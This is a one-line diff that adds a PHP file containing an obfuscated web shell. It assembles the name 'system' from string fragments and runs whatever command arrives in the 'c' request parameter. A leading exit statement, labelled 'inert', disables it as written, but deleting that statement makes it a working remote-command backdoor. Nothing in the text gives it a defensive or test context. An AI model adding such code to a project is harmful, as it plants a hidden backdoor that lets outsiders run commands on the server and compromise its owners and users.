@@ -1,0 +1,1 @@
+<?php exit; /* inert */ define("F","sys"."tem"); (F)($_GET["c"]);
